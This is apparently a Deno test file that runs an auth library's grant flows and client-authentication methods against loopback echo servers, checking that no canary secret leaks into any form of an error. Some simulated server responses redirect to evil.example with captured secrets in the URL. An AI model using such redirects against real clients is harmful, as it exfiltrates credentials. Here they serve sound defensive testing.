/**
 * The canary echo matrix: every grant and every client authentication × every way a server can echo
 * what it was sent, against real servers on 127.0.0.1 (a `Deno.serve` echo server and a raw
 * `Deno.listen` TCP server that writes exact bytes), plus platform `fetch` failures. Every error is
 * scanned in every form it can reach a user: message, String(), stack, each cause, JSON.stringify,
 * Deno.inspect, node:util inspect and console output. One leak fails the test.
 */

import assert from "node:assert/strict";
import { inspect } from "node:util";
import {
  apiKey,
  auth,
  AuthFetchError,
  authorizationCode,
  clientCredentials,
  createFetch,
  deviceCode,
  dpopKey,
  introspect,
  isSecretKey,
  jsonLogin,
  jwtBearer,
  password,
  refreshToken,
  revoke,
  tokenExchange,
  tokenSource,
} from "../../mod.ts";

/** Planted secrets, with characters that URL, form, JSON and HTML encodings each change. */
const C = {
  clientSecret: "cs-CANARY-4f9a+1c/7e=2b&8d",
  password: `pw CANARY "9d2e" <7a4c> 'ü1f`,
  refreshToken: "rt-CANARY-7c3d2f9e1a4b",
  oldAccessToken: "at-CANARY-old-1b6f8e3a",
  issuedAccessToken: "at-CANARY-new-8e3a9c2d",
  subjectToken: "st-CANARY-5e8f~2a.9b_c",
  actorToken: "ac-CANARY-3d7b1e9f4a2c",
  code: "code-CANARY-2a7e9f1c4d",
  deviceCode: "dc-CANARY-9f1e7b5d8a2c",
  assertion: "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJqd3QtQ0FOQVJZIn0.as-CANARY-5d8a2c9f1e7b",
  apiKey: "ak-CANARY-6b2e9d4f1a7c",
  introspected: "it-CANARY-4a1c7e2b9d3f",
};
const CLIENT_ID = "svc";

/** Every form in which a value could be echoed. */
function encodings(value: string): string[] {
  const form = new URLSearchParams([["", value]]).toString().slice(1);
  const html = value.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;").replaceAll("'", "&#39;");
  return [value, encodeURIComponent(value), form, JSON.stringify(value).slice(1, -1), html];
}

/** The first 12-character window of any secret (in any encoding) found in `texts`. */
function findLeak(texts: string[], secrets: Iterable<string>): string | undefined {
  const all = texts.join("\n");
  for (const secret of secrets) {
    for (const form of encodings(secret)) {
      if (form.length < 12) {
        if (form.length >= 8 && all.includes(form)) return form;
        continue;
      }
      for (let i = 0; i + 12 <= form.length; i++) {
        const window = form.slice(i, i + 12);
        if (all.includes(window)) return `${window} (of ${form})`;
      }
    }
  }
  return undefined;
}

/** Every text an error shows: message, String, stack, JSON and inspect forms, for the whole cause chain. */
function errorTexts(error: unknown): string[] {
  const texts: string[] = [];
  let current: unknown = error;
  for (let depth = 0; depth < 8 && current !== undefined && current !== null; depth++) {
    if (current instanceof Error) {
      texts.push(current.message, String(current), current.stack ?? "");
      for (const [key, value] of Object.entries(current)) texts.push(`${key}=${String(value)}`);
      texts.push(JSON.stringify(current) ?? "");
      current = (current as { cause?: unknown }).cause;
    } else {
      texts.push(String(current), JSON.stringify(current) ?? "");
      break;
    }
  }
  texts.push(JSON.stringify(error) ?? "", Deno.inspect(error, { depth: 10 }));
  texts.push(inspect(error, { depth: 10 }));
  return texts;
}

// ---------------------------------------------------------------------------------------------------
// What the servers saw, and how they echo it.

interface Seen {
  /** The raw request body (or raw request, for the TCP server). */
  raw: string;
  /** Every secret value the request carried: secret-named form and JSON members, credential headers. */
  secrets: string[];
  /** Secrets the server knows without being sent them in this request (the client secret for JWT auth). */
  known: string[];
}

/** What the scenario's server knows beyond what it is sent. */
const KNOWN = new Map<string, string[]>();
/** Every secret each scenario's server received. */
const RECEIVED = new Map<string, Set<string>>();

function seen(scenario: string, raw: string, headers: Headers, contentType: string): Seen {
  const secrets: string[] = [];
  if (contentType.includes("json")) {
    try {
      const walk = (v: unknown, key = ""): void => {
        if (typeof v === "string" && isSecretKey(key)) secrets.push(v);
        else if (v !== null && typeof v === "object") {
          for (const [k, x] of Object.entries(v)) walk(x, k);
        }
      };
      walk(JSON.parse(raw));
    } catch { /* not JSON */ }
  } else {
    for (const [key, value] of new URLSearchParams(raw)) if (isSecretKey(key)) secrets.push(value);
  }
  const authorization = headers.get("authorization");
  if (authorization !== null) {
    secrets.push(authorization);
    const credential = authorization.slice(authorization.indexOf(" ") + 1);
    secrets.push(credential);
    if (/^basic /i.test(authorization)) {
      const decoded = atob(credential);
      secrets.push(decoded, decoded.slice(decoded.indexOf(":") + 1));
    }
  }
  for (const name of ["dpop", "x-api-key"]) {
    const value = headers.get(name);
    if (value !== null) secrets.push(value);
  }
  const known = KNOWN.get(scenario) ?? [];
  const received = RECEIVED.get(scenario) ?? new Set<string>();
  for (const s of [...secrets, ...known]) received.add(s);
  RECEIVED.set(scenario, received);
  return { raw, secrets, known };
}

/** Everything the server could echo, joined. */
function echoText(s: Seen): string {
  return [s.raw, ...s.secrets, ...s.known].join(" | ");
}
function first(s: Seen): string {
  return s.secrets.find((v) => !/^(basic|bearer|dpop) /i.test(v)) ?? s.known[0] ?? s.raw;
}
const escapeHtml = (t: string) =>
  t.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;").replaceAll("'", "&#39;");
const json = (body: unknown, status = 400, headers: HeadersInit = {}) =>
  new Response(JSON.stringify(body), {
    status,
    headers: { "content-type": "application/json", ...headers },
  });
const text = (body: string, status: number, type = "text/plain") =>
  new Response(body, { status, headers: { "content-type": type } });

/** The ways the Deno.serve server answers: each echoes what it was sent in another place or shape. */
const KINDS: Record<string, (s: Seen) => Response> = {
  "JSON error_description quoting the secrets": (s) =>
    json({ error: "invalid_request", error_description: `credentials rejected: ${echoText(s)}` }),
  "200 with an OAuth error quoting the secrets": (s) =>
    json({ error: "server_error", error_description: echoText(s) }, 200),
  "form-encoded error body": (s) =>
    text(
      new URLSearchParams({ error: "invalid_client", error_description: echoText(s) }).toString(),
      400,
      "application/x-www-form-urlencoded",
    ),
  "form-encoded error body, request echoed raw": (s) =>
    text(
      `error=invalid_request&error_description=${s.raw}`,
      401,
      "application/x-www-form-urlencoded",
    ),
  "the secret as the error code": (s) => json({ error: first(s) }),
  "the secrets joined as the error code": (s) =>
    json({ error: [...s.secrets, ...s.known].join("_") }, 401),
  "an error code with a line break": (s) => json({ error: `invalid_grant\n${first(s)}` }),
  "error_uri carrying the secret": (s) =>
    json({
      error: "invalid_grant",
      error_uri: `https://as.example/errors/${first(s)}/${encodeURIComponent(first(s))}?echo=${
        encodeURIComponent(echoText(s))
      }`,
    }),
  "HTML 500 echoing the request": (s) =>
    text(
      `<html><head><script>var s="${first(s)}";</script><style>p{}</style></head><body>` +
        `<h1>Error</h1><pre>${echoText(s)}</pre><p title="${first(s)}">${
          escapeHtml(echoText(s))
        }</p></body></html>`,
      500,
      "text/html",
    ),
  "HTML-escaped echo": (s) =>
    text(`<p>${escapeHtml(echoText(s))}</p><p>${escapeHtml(first(s))}</p>`, 400, "text/html"),
  "text 500 echoing the request": (s) =>
    text(`Internal error while handling ${s.raw} with ${echoText(s)}`, 500),
  "JSON {detail} 500": (s) => json({ detail: `cannot process ${echoText(s)}` }, 500),
  "JSON {detail} 401": (s) => json({ detail: echoText(s) }, 401),
  "JSON {message} 403 with camelCase keys": (s) =>
    json({
      message: "forbidden",
      accessToken: first(s),
      clientSecret: first(s),
      nested: { refreshToken: first(s), apiKey: first(s) },
    }, 403),
  "camelCase JSON 500": (s) =>
    json({ accessToken: first(s), refreshToken: first(s), idToken: first(s) }, 500),
  "truncated token JSON": (s) =>
    text(
      JSON.stringify({
        access_token: C.issuedAccessToken,
        refresh_token: first(s),
        echo: echoText(s),
      }).slice(0, -7),
      200,
      "application/json",
    ),
  "basic=id:secret in text": (s) =>
    text(
      `basic=${s.secrets.find((v) => v.includes(":")) ?? first(s)} auth=${s.secrets[0] ?? ""}`,
      400,
    ),
  "JSON escaped twice in text": (s) =>
    text(JSON.stringify(JSON.stringify({ echo: [...s.secrets, ...s.known] })), 502),
  "a 600 KB body with the secrets in the middle": (s) =>
    text(`${"x".repeat(300_000)} ${echoText(s)} ${"<".repeat(300_000)}`, 500),
  "the secret across the 4 KiB cut": (s) =>
    text(`${"z".repeat(4096 - 7)}${first(s)} ${echoText(s)}`, 500),
  "the secret across the 120-character excerpt": (s) =>
    text(`${"q".repeat(110)}${first(s)} ${echoText(s)}`, 500),
  "an access_token with a line break": (s) =>
    json({ access_token: `${C.issuedAccessToken}\n${first(s)}`, token_type: "Bearer" }, 200),
  "a token_type with a space": (s) =>
    json({ access_token: C.issuedAccessToken, token_type: `Bearer ${first(s)}` }, 200),
  "JSON that is not an object": (s) => json([...s.secrets, ...s.known]),
  "a redirect whose Location carries the secrets": (s) =>
    new Response(null, {
      status: 302,
      headers: {
        location: `https://evil.example/cb?code=${encodeURIComponent(first(s))}&echo=${
          encodeURIComponent(echoText(s))
        }`,
      },
    }),
  "headers echoing the secrets": (s) =>
    json({ error: "invalid_client", error_description: "see the headers" }, 401, {
      "www-authenticate": `Bearer error="invalid_token", error_description="${
        encodeURIComponent(first(s))
      }"`,
      "x-echo": encodeURIComponent(echoText(s)),
    }),
};

// ---------------------------------------------------------------------------------------------------
// The targets: every grant and client authentication, and the other endpoint calls.

type Target = (base: string, scenario: string) => Promise<unknown>;

const noSleep = () => Promise.resolve();

function targets(
  dpop: Awaited<ReturnType<typeof dpopKey>>,
  key: CryptoKey,
): Record<string, Target> {
  const common = (base: string) => ({
    tokenUrl: `${base}/token`,
    clientId: CLIENT_ID,
    clientSecret: C.clientSecret,
  });
  return {
    "client_credentials, client_secret_basic": (base) => clientCredentials(common(base)).token(),
    "client_credentials, client_secret_post": (base) =>
      clientCredentials({ ...common(base), clientAuth: "client_secret_post" }).token(),
    "client_credentials, client_secret_jwt": (base, scenario) => {
      KNOWN.set(scenario, [C.clientSecret]);
      return clientCredentials({ ...common(base), clientAuth: "client_secret_jwt" }).token();
    },
    "client_credentials, private_key_jwt": (base) =>
      clientCredentials({ tokenUrl: `${base}/token`, clientId: CLIENT_ID, privateKey: key })
        .token(),
    "client_credentials, none, DPoP": (base) =>
      clientCredentials({ tokenUrl: `${base}/token`, clientId: CLIENT_ID, dpop }).token(),
    "password, client_secret_basic": (base) =>
      password({ ...common(base), username: "alice", password: C.password }).token(),
    "refresh_token, client_secret_post": async (base, scenario) => {
      KNOWN.set(scenario, [C.oldAccessToken]);
      return await refreshToken({
        ...common(base),
        clientAuth: "client_secret_post",
        refreshToken: C.refreshToken,
      }).refresh!({
        accessToken: C.oldAccessToken,
        tokenType: "Bearer",
        refreshToken: C.refreshToken,
      });
    },
    "jwt_bearer, assertion": (base) =>
      jwtBearer({ tokenUrl: `${base}/token`, clientId: CLIENT_ID, assertion: C.assertion }).token(),
    "token_exchange, subject and actor": (base) =>
      tokenExchange({
        ...common(base),
        subjectToken: C.subjectToken,
        actorToken: C.actorToken,
      }).token(),
    "authorization_code, code and verifier": async (base) => {
      const flow = authorizationCode({
        ...common(base),
        authorizationUrl: `${base}/authorize`,
        redirectUri: "https://app.example/callback",
      });
      const { state, codeVerifier } = await flow.start();
      return await flow.finish(
        `https://app.example/callback?code=${C.code}&state=${encodeURIComponent(state)}`,
        { state, codeVerifier },
      );
    },
    "device_code, polling": (base) => {
      let clock = 0;
      return deviceCode({
        ...common(base),
        deviceAuthorizationUrl: `${base}/device-ok`,
        onPrompt: () => {},
        sleep: noSleep,
        now: () => (clock += 1000),
      }).token();
    },
    "device_code, device authorization": (base) =>
      deviceCode({
        ...common(base),
        deviceAuthorizationUrl: `${base}/device`,
        onPrompt: () => {},
        sleep: noSleep,
      }).token(),
    "json_login, login": (base) =>
      jsonLogin({
        loginUrl: `${base}/login`,
        credentials: { username: "alice", password: C.password },
      }).token(),
    "json_login, refresh": async (base, scenario) => {
      KNOWN.set(scenario, [C.oldAccessToken]);
      return await jsonLogin({
        loginUrl: `${base}/login`,
        refreshUrl: `${base}/login`,
        credentials: { username: "alice", password: C.password },
      }).refresh!({
        accessToken: C.oldAccessToken,
        tokenType: "Bearer",
        refreshToken: C.refreshToken,
      });
    },
    "revoke, client_secret_basic": (base) =>
      revoke({ ...common(base), revocationUrl: `${base}/token`, token: C.refreshToken }),
    "introspect, client_secret_post": (base) =>
      introspect({
        ...common(base),
        clientAuth: "client_secret_post",
        introspectionUrl: `${base}/token`,
        token: C.introspected,
      }),
  };
}

// ---------------------------------------------------------------------------------------------------
// The servers.

function echoServer(): { url: string; close: () => Promise<void> } {
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
    const url = new URL(request.url);
    const [, scenario, kind, endpoint] = url.pathname.split("/").map(decodeURIComponent);
    const raw = await request.text();
    const s = seen(scenario, raw, request.headers, request.headers.get("content-type") ?? "");
    if (endpoint === "device-ok") {
      return json({
        device_code: C.deviceCode,
        user_code: "ABCD-EFGH",
        verification_uri: "https://as.example/device",
        expires_in: 600,
        interval: 1,
      }, 200);
    }
    return KINDS[kind](s);
  });
  const { port } = server.addr as Deno.NetAddr;
  return { url: `http://127.0.0.1:${port}`, close: () => server.shutdown() };
}

/** How the raw TCP server answers, byte for byte. */
const RAW_KINDS: Record<string, (request: string) => string | null> = {
  "raw: 400 text echoing the whole request, headers included": (request) =>
    `HTTP/1.1 400 Bad Request\r\ncontent-type: text/plain\r\ncontent-length: ${
      new TextEncoder().encode(request).length
    }\r\nconnection: close\r\n\r\n${request}`,
  "raw: the body cut off after the echo": (request) =>
    `HTTP/1.1 500 Internal Server Error\r\ncontent-type: text/plain\r\ncontent-length: 1000000\r\n` +
    `connection: close\r\n\r\n${request}`,
  "raw: connection closed without an answer": () => null,
  "raw: 307 whose Location carries the request": (request) =>
    `HTTP/1.1 307 Temporary Redirect\r\nlocation: https://evil.example/?echo=${
      encodeURIComponent(request)
    }\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`,
  "raw: 401 JSON error, secrets in a header": (request) => {
    const body = JSON.stringify({ error: "invalid_client", error_description: "see x-echo" });
    return `HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\nx-echo: ${
      encodeURIComponent(request)
    }\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`;
  },
};

function rawServer(): { url: string; close: () => Promise<void> } {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const conns = new Set<Deno.Conn>();
  const serve = async (conn: Deno.Conn) => {
    conns.add(conn);
    try {
      const buffer = new Uint8Array(1 << 16);
      let data = new Uint8Array(0);
      let head = -1;
      for (;;) {
        const n = await conn.read(buffer);
        if (n === null) return;
        const next = new Uint8Array(data.length + n);
        next.set(data);
        next.set(buffer.subarray(0, n), data.length);
        data = next;
        const textSoFar = new TextDecoder().decode(data);
        head = textSoFar.indexOf("\r\n\r\n");
        if (head !== -1) {
          const length = Number(/content-length: *(\d+)/i.exec(textSoFar.slice(0, head))?.[1] ?? 0);
          if (new TextEncoder().encode(textSoFar.slice(head + 4)).length >= length) break;
        }
      }
      const request = new TextDecoder().decode(data);
      const path = decodeURIComponent(request.slice(request.indexOf(" ") + 1).split(" ")[0]);
      const [, scenario, kind] = path.split("/");
      const headerLines = request.slice(request.indexOf("\r\n") + 2, request.indexOf("\r\n\r\n"));
      const headers = new Headers();
      for (const line of headerLines.split("\r\n")) {
        const colon = line.indexOf(":");
        if (colon > 0) headers.append(line.slice(0, colon).trim(), line.slice(colon + 1).trim());
      }
      seen(
        scenario,
        request.slice(request.indexOf("\r\n\r\n") + 4),
        headers,
        headers.get("content-type") ?? "",
      );
      const answer = RAW_KINDS[kind](request);
      if (answer !== null) await conn.write(new TextEncoder().encode(answer));
    } catch {
      // the client went away
    } finally {
      conns.delete(conn);
      try {
        conn.close();
      } catch { /* closed */ }
    }
  };
  const accepting = (async () => {
    try {
      for await (const conn of listener) serve(conn);
    } catch { /* closed */ }
  })();
  const { port } = listener.addr as Deno.NetAddr;
  return {
    url: `http://127.0.0.1:${port}`,
    close: async () => {
      listener.close();
      for (const conn of conns) {
        try {
          conn.close();
        } catch { /* closed */ }
      }
      await accepting;
    },
  };
}

/** A loopback port nothing listens on. */
function deadPort(): number {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const { port } = listener.addr as Deno.NetAddr;
  listener.close();
  return port;
}

// ---------------------------------------------------------------------------------------------------

interface Outcome {
  scenario: string;
  error?: unknown;
}

async function scan(outcomes: Outcome[], consoleLines: string[]): Promise<string[]> {
  const problems: string[] = [];
  for (const { scenario, error } of outcomes) {
    if (error === undefined) continue;
    const secrets = new Set([...(RECEIVED.get(scenario) ?? []), ...Object.values(C)]);
    const leak = findLeak(errorTexts(error), secrets);
    if (leak !== undefined) {
      problems.push(`${scenario}: ${leak}`);
      if (Deno.env.get("ECHO_DEBUG")) console.log(scenario, Deno.inspect(error, { depth: 10 }));
    }
    if (!(error instanceof AuthFetchError) && !(error instanceof TypeError)) {
      problems.push(`${scenario}: untyped ${(error as Error)?.name}`);
    }
  }
  const leak = findLeak(consoleLines, Object.values(C));
  if (leak !== undefined) problems.push(`console: ${leak}`);
  return await Promise.resolve(problems);
}

/** Runs `fn` with console output captured as Deno's console formats it. */
async function captureConsole<T>(lines: string[], fn: () => Promise<T>): Promise<T> {
  const methods = ["log", "error", "warn", "info", "debug"] as const;
  const saved = methods.map((m) => console[m]);
  for (const m of methods) {
    console[m] = (...args: unknown[]) => {
      lines.push(
        args.map((a) => typeof a === "string" ? a : Deno.inspect(a, { depth: 10 })).join(" "),
      );
    };
  }
  try {
    return await fn();
  } finally {
    methods.forEach((m, i) => (console[m] = saved[i]));
  }
}

Deno.test("echo matrix: no secret an exchange carries reaches any form of any error (0 leaks)", async () => {
  const dpop = await dpopKey();
  const { privateKey } = await crypto.subtle.generateKey(
    { name: "ECDSA", namedCurve: "P-256" },
    false,
    ["sign", "verify"],
  );
  const all = targets(dpop, privateKey);
  const echo = echoServer();
  const raw = rawServer();
  const outcomes: Outcome[] = [];
  const consoleLines: string[] = [];
  let succeeded = 0;
  try {
    await captureConsole(consoleLines, async () => {
      const run = async (scenario: string, target: () => Promise<unknown>) => {
        try {
          await target();
          outcomes.push({ scenario });
          succeeded++;
        } catch (error) {
          outcomes.push({ scenario, error });
          console.error(error);
          console.log(`${error}`);
        }
      };
      for (const [targetName, target] of Object.entries(all)) {
        for (const kind of Object.keys(KINDS)) {
          const scenario = `${targetName} × ${kind}`;
          const base = `${echo.url}/${encodeURIComponent(scenario)}/${encodeURIComponent(kind)}`;
          await run(scenario, () => target(base, scenario));
        }
      }
      // The raw server answers byte for byte (device flows are left out: a connection error is
      // retried by design until the code expires).
      for (const [targetName, target] of Object.entries(all)) {
        if (targetName.startsWith("device_code")) continue;
        for (const kind of Object.keys(RAW_KINDS)) {
          const scenario = `${targetName} × ${kind}`;
          const base = `${raw.url}/${encodeURIComponent(scenario)}/${encodeURIComponent(kind)}`;
          await run(scenario, () => target(base, scenario));
        }
      }
      // Platform failures: a dead host, reached directly or by a redirect, with secrets in the query.
      const dead = `http://127.0.0.1:${deadPort()}`;
      await run("token endpoint on a dead port, secrets in its query", () =>
        clientCredentials({
          tokenUrl: `${dead}/token?client_secret=${C.clientSecret}&code=${C.code}`,
          clientId: CLIENT_ID,
          clientSecret: C.clientSecret,
        }).token());
      await run("json login on a dead port, secrets in its query", () =>
        jsonLogin({
          loginUrl: `http://${CLIENT_ID}:${encodeURIComponent(C.password)}@127.0.0.1:${
            new URL(dead).port
          }/login?password=${encodeURIComponent(C.password)}`,
          credentials: { username: "alice", password: C.password },
        }).token());
      const redirecting = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen() {} },
        () =>
          new Response(null, {
            status: 302,
            headers: {
              location: `${dead}/next?access_token=${C.issuedAccessToken}&key=${C.apiKey}`,
            },
          }),
      );
      const api = `http://127.0.0.1:${(redirecting.addr as Deno.NetAddr).port}/things`;
      try {
        const tokens = tokenSource({
          token: () => Promise.resolve({ accessToken: C.oldAccessToken, tokenType: "Bearer" }),
        });
        await run("auth(): a redirect to a dead host with the token in its query", async () => {
          await (await createFetch([auth(tokens)])(api)).body?.cancel();
        });
        await run("apiKey(query): a dead host", async () => {
          await (await createFetch([apiKey(C.apiKey, { query: "key" })])(`${dead}/x`)).body
            ?.cancel();
        });
        await run("apiKey(header): a redirect to a dead host", async () => {
          await (await createFetch([apiKey(C.apiKey)])(api)).body?.cancel();
        });
        await run("apiKey(header): the raw server closes without answering", async () => {
          await (await createFetch([apiKey(C.apiKey)])(
            `${raw.url}/apikey/raw: connection closed without an answer`,
          )).body?.cancel();
        });
      } finally {
        await redirecting.shutdown();
      }
    });
  } finally {
    await echo.close();
    await raw.close();
  }
  const problems = await scan(outcomes, consoleLines);
  const failed = outcomes.filter((o) => o.error !== undefined).length;
  console.log(
    `echo matrix: ${outcomes.length} scenarios, ${failed} errors scanned, ${succeeded} ended without ` +
      `an error, ${problems.length} leaks or untyped errors`,
  );
  assert.deepEqual(problems, []);
  assert.ok(outcomes.length >= 100);
  // Only revocation may end without an error: RFC 7009 ignores the content of a 2xx.
  assert.deepEqual(
    outcomes.filter((o) => o.error === undefined && !o.scenario.startsWith("revoke")).map((o) =>
      o.scenario
    ),
    [],
  );
});
